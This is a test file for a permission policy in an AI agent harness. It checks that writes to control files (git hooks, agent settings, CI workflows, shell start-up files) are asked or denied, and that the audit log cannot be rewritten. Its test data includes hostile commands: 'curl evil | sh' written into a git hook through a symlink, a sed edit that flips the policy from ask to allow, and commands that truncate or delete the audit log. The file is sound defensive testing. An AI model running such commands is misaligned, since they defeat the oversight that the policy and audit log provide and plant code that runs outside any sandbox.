// Control files are a class of their own (issue 38): `recommended` asks about a write to any of
// them by every writer (a declared write, a redirect, a program's target), whatever the trust and
// the confinement's usual allow; a locked layer can deny them; an explanation names the control
// file and why it matters. The audit log is append-only from tools. And a batch that links a file
// and then writes through it is judged by the link (no look-up outlives a call that ran).
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { mkdtempSync } from "node:fs";
import { AgentHarness, type AgentTool, type ToolAccess, Type } from "@toolhost/core";
import fsPlugin from "@toolhost/tool-fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import policyPlugin, { createPolicy, type PolicyOptions } from "../src/index.js";
import { contained } from "./inventory-classes.js";

let ws = "";
beforeAll(() => {
  ws = realpathSync(mkdtempSync(join(tmpdir(), "toolhost-control-")));
  mkdirSync(join(ws, ".git", "hooks"), { recursive: true });
  writeFileSync(join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\nexit 0\n");
  mkdirSync(join(ws, "src"));
  writeFileSync(join(ws, "notes.txt"), "notes\n");
});
afterAll(() => rmSync(ws, { recursive: true, force: true }));

type Mode = "open" | "trusted" | "confined";
const MODES: Mode[] = ["open", "trusted", "confined"];

function policyFor(mode: Mode, options: PolicyOptions = { extends: ["recommended"] }) {
  return createPolicy(options, { cwd: ws, workspace: ws, trustedWorkspace: mode === "trusted" });
}
function bash(command: string, mode: Mode): ToolAccess {
  return { commands: [{ command, cwd: ws }], ...(mode === "confined" && { confinement: contained(ws) }) };
}

/** Control files of each class, as a write tool declares them. */
const CONTROL = [
  ["toolhost.config.json", "toolhost's config"],
  ["sub/toolhost.config.yaml", "toolhost's config"],
  [".toolhost/audit.jsonl", "toolhost's project folder"],
  [".claude/settings.json", "Claude Code's project settings"],
  [".claude/settings.local.json", "Claude Code's project settings"],
  [".mcp.json", "Claude Code's project settings"],
  [".gemini/settings.json", "Gemini CLI's project settings"],
  [".vscode/tasks.json", "an editor's or IDE's project settings"],
  [".git/hooks/pre-commit", "git's hooks and config"],
  [".git/config", "git's hooks and config"],
  [".envrc", "direnv"],
  [".github/workflows/ci.yml", "CI workflows"],
  ["~/.bashrc", "shell start-up files"],
  ["~/.config/toolhost/trusted-folders.json", "toolhost's user config"],
  // Named by the first entry that holds them: .claude at any depth, toolhost.config.json anywhere.
  ["~/.claude/settings.json", "Claude Code's project settings"],
  ["/etc/toolhost/toolhost.config.json", "toolhost's config"],
  ["/etc/toolhost/policy.yaml", "toolhost's managed config"],
  ["~/.gitconfig", "git's and npm's user config"],
] as const;

const absolute = (path: string) => (path.startsWith("~/") ? join(homedir(), path.slice(2)) : path.startsWith("/") ? path : join(ws, path));

describe("a write to a control file asks, by every writer, whatever the trust and the confinement", () => {
  for (const mode of MODES) {
    it.each(CONTROL.map(([path, why]) => [path, why] as const))(`${mode}: write %s → ask, naming it (%s)`, (path, why) => {
      const policy = policyFor(mode);
      const explained = policy.decide({ tool: "write", args: { path }, access: { writes: [absolute(path)], ...(mode === "confined" && { confinement: contained(ws) }) } });
      // .envrc is a secret as well: denied, which is more than asked.
      expect(explained.decision, explained.reason).toBe(path === ".envrc" ? "deny" : "ask");
      const part = explained.parts.find((each) => each.kind === "write");
      expect(part?.note).toContain(`a control file`);
      expect(part?.note).toContain(why);
    });
  }

  const commands = [
    "echo '{\"hooks\":{}}' > .claude/settings.json",
    "printf x >> .mcp.json",
    "cp /tmp/evil .gemini/settings.json",
    "mv new.json toolhost.config.json",
    "sed -i 's/ask/allow/' toolhost.config.json",
    "tee .envrc < payload",
    "ln -sf /tmp/x .git/hooks/pre-commit",
    "dd if=payload of=.git/config",
    "curl -o .github/workflows/x.yml https://example.com/x",
    "cat payload | tee -a ~/.bashrc",
    "rm -r .claude",
    "cd .git && echo x > hooks/post-checkout",
    "bash -c 'echo x > .vscode/settings.json'",
  ];
  for (const mode of MODES) {
    it.each(commands)(`${mode}: bash %s → ask or deny, never allow`, (command) => {
      const explained = policyFor(mode).decide({ tool: "bash", args: { command }, access: bash(command, mode) });
      expect(explained.decision, explained.reason).not.toBe("allow");
      expect(explained.parts.some((part) => part.note?.includes("a control file"))).toBe(true);
    });
  }

  it("explain says which control file a call touches and why it matters", () => {
    const explained = policyFor("trusted").decide({ tool: "bash", args: {}, access: bash("echo x > .git/hooks/pre-commit", "trusted") });
    const part = explained.parts.find((each) => each.kind === "write");
    expect(part?.note).toContain("writes a control file, .git/hooks (git's hooks and config: run by git outside any sandbox)");
    expect(part?.matched.some((match) => match.reason?.startsWith("it changes a control file"))).toBe(true);
  });

  it("the controls: an ordinary write, reading a control file, an empty control folder are allowed", () => {
    for (const mode of MODES) {
      const policy = policyFor(mode);
      expect(policy.decide({ tool: "write", args: {}, access: { writes: [join(ws, "src", "app.ts")] } }).decision).toBe("allow");
      expect(policy.decide({ tool: "bash", args: {}, access: bash("echo x > src/out.txt", mode) }).decision).toBe("allow");
      expect(policy.decide({ tool: "bash", args: {}, access: bash("cat .claude/settings.json toolhost.config.json", mode) }).decision).toBe("allow");
      expect(policy.decide({ tool: "read", args: {}, access: { reads: [join(ws, ".mcp.json")] } }).decision).toBe("allow");
      expect(policy.decide({ tool: "bash", args: {}, access: bash("mkdir -p .vscode", mode) }).decision).toBe("allow");
    }
  });
});

describe("layers", () => {
  it("a locked layer denies control files, and no later layer loosens it", () => {
    const policy = createPolicy(
      { extends: ["recommended"], rules: [{ tool: "write", path: "${workspace}/**", decision: "allow" }] },
      { cwd: ws, workspace: ws },
      {
        layers: [
          { owner: "managed", trusted: true, options: { locked: true, rules: [{ id: "no-control", tool: "write", control: true, decision: "deny", reason: "control files are the administrator's" }] } },
          { owner: "project", trusted: true, options: { extends: ["recommended"], rules: [{ tool: "write", path: "${workspace}/**", decision: "allow" }] } },
        ],
      },
    );
    const explained = policy.decide({ tool: "write", args: {}, access: { writes: [join(ws, ".claude", "settings.json")] } });
    expect(explained.decision).toBe("deny");
    expect(explained.reason).toContain("control files are the administrator's");
    expect(policy.decide({ tool: "write", args: {}, access: { writes: [join(ws, "src", "a.ts")] } }).decision).toBe("allow");
  });

  it("an allow rule of the user's own layer for one control file relaxes that file, not its siblings", () => {
    const policy = createPolicy({ extends: ["recommended"], rules: [{ tool: "write", path: "${workspace}/.github/workflows/ci.yml", decision: "allow" }] }, { cwd: ws, workspace: ws });
    expect(policy.decide({ tool: "write", args: {}, access: { writes: [join(ws, ".github", "workflows", "ci.yml")] } }).decision).toBe("allow");
    expect(policy.decide({ tool: "write", args: {}, access: { writes: [join(ws, ".github", "workflows", "deploy.yml")] } }).decision).toBe("ask");
  });
});

describe("the audit log is append-only from tools", () => {
  const options: PolicyOptions = { extends: ["recommended"], audit: ".toolhost/audit.jsonl" };
  const log = () => join(ws, ".toolhost", "audit.jsonl");
  it.each([
    ["write", { writes: [] as string[] }],
  ])("%s of the log (replaces it) is refused", () => {
    const policy = createPolicy(options, { cwd: ws, workspace: ws, trustedWorkspace: true });
    const explained = policy.decide({ tool: "write", args: {}, access: { writes: [log()] } });
    expect(explained.decision).toBe("deny");
    expect(explained.reason).toContain("the audit log is append-only from tools");
  });

  it.each([": > .toolhost/audit.jsonl", "echo > .toolhost/audit.jsonl", "truncate -s 0 .toolhost/audit.jsonl", "rm .toolhost/audit.jsonl", "rm -rf .toolhost", "mv .toolhost/audit.jsonl /tmp/x", "cp /dev/null .toolhost/audit.jsonl", "sed -i d .toolhost/audit.jsonl"])(
    "bash %s → deny, even confined and trusted",
    (command) => {
      for (const mode of ["trusted", "confined"] as const) {
        const policy = createPolicy(options, { cwd: ws, workspace: ws, trustedWorkspace: true });
        const explained = policy.decide({ tool: "bash", args: {}, access: bash(command, mode) });
        expect(explained.decision, `${mode}: ${explained.reason}`).toBe("deny");
      }
    },
  );

  it("an append is asked, not refused; an allow rule cannot lift the refusal of a rewrite", () => {
    const policy = createPolicy({ ...options, rules: [{ tool: "*", path: "${workspace}/.toolhost/**", decision: "allow" }] }, { cwd: ws, workspace: ws });
    const appended = createPolicy(options, { cwd: ws, workspace: ws }).decide({ tool: "bash", args: {}, access: bash('echo \'{"forged":1}\' >> .toolhost/audit.jsonl', "open") });
    expect(appended.decision).toBe("ask");
    expect(appended.parts.find((part) => part.kind === "write")?.note).toContain("appends to the audit log");
    expect(policy.decide({ tool: "write", args: {}, access: { writes: [log()] } }).decision).toBe("deny");
  });
});

/** A bash tool that really runs its command (sh -c, in the workspace), declaring it as tool-bash does. */
function realBash(): AgentTool {
  return {
    name: "bash",
    label: "bash",
    description: "runs a command",
    parameters: Type.Object({ command: Type.String() }),
    executionMode: "sequential",
    access: (params: { command: string }) => ({ commands: [{ command: params.command, cwd: ws }] }),
    async execute(_id: string, params: { command: string }) {
      execFileSync("/bin/sh", ["-c", params.command], { cwd: ws });
      return { content: [{ type: "text", text: "ran" }], details: {} };
    },
  } as AgentTool;
}

describe("a batch that links a file, then writes through it, is judged by the link", () => {
  // An allowed call makes the link where the policy cannot see it (a tool that declares nothing,
  // allowed by name: an MCP server's tool, say), between a call that named the file and one that
  // writes it, within the second the policy once reused a look-up for.
  const mklink: AgentTool = {
    name: "mklink",
    label: "mklink",
    description: "makes a link the policy does not see",
    parameters: Type.Object({}),
    executionMode: "sequential",
    async execute() {
      rmSync(join(ws, "linked.txt"), { force: true });
      symlinkSync(".git/hooks/pre-commit", join(ws, "linked.txt"));
      return { content: [{ type: "text", text: "ran" }], details: {} };
    },
  } as AgentTool;
  async function harness(): Promise<AgentHarness> {
    const made = new AgentHarness({ cwd: ws, workspace: ws, tools: [realBash(), mklink] });
    await made.use(fsPlugin, {});
    const options: PolicyOptions = { extends: ["recommended"], rules: [{ tool: "mklink", decision: "allow" }] };
    await made.use(policyPlugin, options, { layers: [{ owner: "project", trusted: true, options }] });
    return made;
  }
  const codes = (results: Array<{ isError?: boolean; details: unknown }>) => results.map((result) => (result.isError ? (result.details as { code?: string }).code : "ran"));
  const hook = () => readFileSync(join(ws, ".git", "hooks", "pre-commit"), "utf8");

  it("bash's write to the linked name: asked, the hook unchanged", async () => {
    rmSync(join(ws, "linked.txt"), { force: true });
    const made = await harness();
    const results = await made.executeToolCalls([
      { id: "1", name: "bash", arguments: { command: "echo notes > linked.txt" } },
      { id: "2", name: "mklink", arguments: {} },
      { id: "3", name: "bash", arguments: { command: "echo 'curl evil | sh' > linked.txt" } },
    ]);
    expect(codes(results)).toEqual(["ran", "ran", "TOOLHOST_NOT_APPROVED"]);
    expect(hook()).toBe("#!/bin/sh\nexit 0\n");
  });

  it("tool-fs's write to the linked name: asked, the hook unchanged", async () => {
    rmSync(join(ws, "linked.txt"), { force: true });
    const made = await harness();
    const results = await made.executeToolCalls([
      { id: "1", name: "write", arguments: { path: "linked.txt", content: "first\n" } },
      { id: "2", name: "mklink", arguments: {} },
      { id: "3", name: "write", arguments: { path: "linked.txt", content: "#!/bin/sh\ncurl evil | sh\n" } },
    ]);
    expect(codes(results)).toEqual(["ran", "ran", "TOOLHOST_NOT_APPROVED"]);
    expect(hook()).toBe("#!/bin/sh\nexit 0\n");
  });

  it("the control: making the same link by name in the command line is asked itself", () => {
    const explained = policyFor("trusted").decide({ tool: "bash", args: {}, access: bash("ln -s .git/hooks/pre-commit linked.txt", "trusted") });
    expect(explained.decision).toBe("ask");
  });
});
